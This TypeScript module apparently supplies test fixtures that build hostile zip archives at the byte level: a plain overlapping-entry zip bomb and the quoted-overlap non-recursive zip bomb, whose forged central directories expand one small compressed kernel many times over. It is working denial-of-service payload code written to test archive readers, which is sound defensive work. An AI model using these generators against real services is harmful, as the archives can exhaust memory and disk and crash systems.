// Byte-level builders for hostile archives: zip files whose compressed data is computed once and reused,
// and whose central directory may say what no honest zip writer would.
import { crc32, deflateRawSync } from 'node:zlib';

export interface RawMember {
  name: string;
  /** Compressed bytes as stored (method 8) or the bytes themselves (method 0). */
  data: Uint8Array;
  method: 0 | 8;
  crc: number;
  size: number;
}

/** A deflated member, compressed once; reuse it for as many entries as needed. */
export function deflated(name: string, bytes: Uint8Array): RawMember {
  return {
    name,
    data: deflateRawSync(bytes, { level: 9 }),
    method: 8,
    crc: crc32(bytes),
    size: bytes.length,
  };
}

/** Renames a member, keeping its data. */
export function named(member: RawMember, name: string): RawMember {
  return { ...member, name };
}

interface HeaderFields {
  name: string;
  method: number;
  crc: number;
  compressedSize: number;
  size: number;
}

function fields(m: RawMember): HeaderFields {
  return { name: m.name, method: m.method, crc: m.crc, compressedSize: m.data.length, size: m.size };
}

function localHeader(m: HeaderFields): Buffer {
  const name = Buffer.from(m.name);
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(0x0800, 6); // UTF-8 names
  h.writeUInt16LE(m.method, 8);
  h.writeUInt32LE(m.crc >>> 0, 14);
  h.writeUInt32LE(m.compressedSize, 18);
  h.writeUInt32LE(m.size, 22);
  h.writeUInt16LE(name.length, 26);
  return Buffer.concat([h, name]);
}

function centralHeader(m: HeaderFields, offset: number): Buffer {
  const name = Buffer.from(m.name);
  const h = Buffer.alloc(46);
  h.writeUInt32LE(0x02014b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(20, 6);
  h.writeUInt16LE(0x0800, 8);
  h.writeUInt16LE(m.method, 10);
  h.writeUInt32LE(m.crc >>> 0, 16);
  h.writeUInt32LE(m.compressedSize, 20);
  h.writeUInt32LE(m.size, 24);
  h.writeUInt16LE(name.length, 28);
  h.writeUInt32LE(offset, 42);
  return Buffer.concat([h, name]);
}

function endOfDirectory(count: number, dirSize: number, dirOffset: number): Buffer {
  const e = Buffer.alloc(22);
  e.writeUInt32LE(0x06054b50, 0);
  e.writeUInt16LE(count, 8);
  e.writeUInt16LE(count, 10);
  e.writeUInt32LE(dirSize, 12);
  e.writeUInt32LE(dirOffset, 16);
  return e;
}

/** An ordinary zip: each member's local header and data once, then the central directory. */
export function rawZip(members: RawMember[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const m of members) {
    const local = Buffer.concat([localHeader(fields(m)), m.data]);
    central.push(centralHeader(fields(m), offset));
    parts.push(local);
    offset += local.length;
  }
  const dir = Buffer.concat(central);
  return Buffer.concat([...parts, dir, endOfDirectory(members.length, dir.length, offset)]);
}

const entryName = (i: number): string => `${String(i).padStart(5, '0')}.bin`;

/**
 * The non-recursive zip bomb, plain form: one local header and one compressed kernel, and `count`
 * central-directory entries, under different names, that all point at it. Each entry expands to the whole
 * kernel, so the archive expands to count × kernel size while holding the kernel once.
 */
export function overlappingZip(kernel: RawMember, count: number): Buffer {
  const local = Buffer.concat([localHeader(fields(kernel)), kernel.data]);
  const dir = Buffer.concat(
    Array.from({ length: count }, (_, i) => centralHeader({ ...fields(kernel), name: entryName(i) }, 0)),
  );
  return Buffer.concat([local, dir, endOfDirectory(count, dir.length, local.length)]);
}

/**
 * The non-recursive zip bomb, quoted form (Fifield 2019): entry i's local header is followed by a stored
 * deflate block that quotes entry i+1's local header, so entry i's compressed data runs through every later
 * header down to the shared kernel. No two entries start at the same offset, yet each expands past the
 * kernel. CRCs are left 0: the bomb must be refused before any member is read.
 */
export function quotedOverlapZip(kernelBytes: Uint8Array, count: number): Buffer {
  const kernel = deflateRawSync(kernelBytes, { level: 9 });
  const headers: Buffer[] = new Array(count);
  let compressedSize = kernel.length;
  let size = kernelBytes.length;
  for (let i = count - 1; i >= 0; i--) {
    const header = localHeader({ name: entryName(i), method: 8, crc: 0, compressedSize, size });
    headers[i] = header;
    compressedSize += 5 + header.length;
    size += header.length;
  }
  const body: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (let i = 0; i < count; i++) {
    const h = headers[i] as Buffer;
    central.push(
      centralHeader(
        {
          name: entryName(i),
          method: 8,
          crc: 0,
          compressedSize: h.readUInt32LE(18),
          size: h.readUInt32LE(22),
        },
        offset,
      ),
    );
    body.push(h);
    offset += h.length;
    const next = headers[i + 1];
    if (next) {
      // A non-final stored block (BFINAL=0, BTYPE=00, LEN, NLEN) whose content is the next local header.
      const quote = Buffer.alloc(5);
      quote.writeUInt16LE(next.length, 1);
      quote.writeUInt16LE(~next.length & 0xffff, 3);
      body.push(quote);
      offset += 5;
    }
  }
  body.push(kernel);
  offset += kernel.length;
  const dir = Buffer.concat(central);
  return Buffer.concat([...body, dir, endOfDirectory(count, dir.length, offset)]);
}
